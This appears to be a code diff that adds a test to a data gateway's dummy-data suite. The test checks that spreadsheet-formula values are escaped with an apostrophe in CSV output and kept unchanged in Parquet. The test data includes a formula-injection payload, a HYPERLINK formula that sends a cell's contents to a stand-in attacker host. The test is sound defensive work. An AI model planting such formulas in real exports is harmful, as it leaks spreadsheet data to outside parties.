@@ -3,6 +3,8 @@ audited, and never reading the source (docs/researcher.md, "Dummy data")."""
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import io
 from pathlib import Path
 from typing import Any
@@ -11,7 +13,7 @@ import pyarrow.parquet as pq
 import pytest
 
 from enclave.audit.log import AuditFilter
-from enclave.dummy import MAX_ROWS
+from enclave.dummy import MAX_ROWS, DummyRequest, render_dummy
 
 URL = "/v1/datasets/visits/dummy"
 
@@ -156,3 +158,22 @@ async def test_dummy_shares_the_licence_rate_limit(make_gateway: Any) -> None:
     put = await gw.client.put("/v1/admin/tiers/standard", json=tier, headers=admin)
     assert put.status == 200, await put.text()
     assert [(await _get(gw, rows=5)).status for _ in range(3)] == [200, 200, 429]
+
+
+async def test_a_category_value_cannot_be_a_spreadsheet_formula_in_csv(make_gateway: Any) -> None:
+    """A steward's declared value ``=HYPERLINK(…)`` reaches the CSV with a leading apostrophe;
+    Parquet keeps the value as declared."""
+    gw = await make_gateway()
+    spec = await gw.services.registry.dataset("visits")
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"north")'
+    columns = tuple(
+        dataclasses.replace(c, values=(formula, "@SUM(A1)")) if c.name == "region" else c
+        for c in spec.columns
+    )
+    hostile = dataclasses.replace(spec, columns=columns)
+    text = render_dummy(hostile, DummyRequest(rows=200, seed=1, format="csv")).decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert {r["region"] for r in rows} == {"'" + formula, "'@SUM(A1)"}
+    assert all(not r["age"].startswith("'") for r in rows)
+    table = pq.read_table(io.BytesIO(render_dummy(hostile, DummyRequest(rows=200, seed=1))))
+    assert set(table.column("region").to_pylist()) == {formula, "@SUM(A1)"}
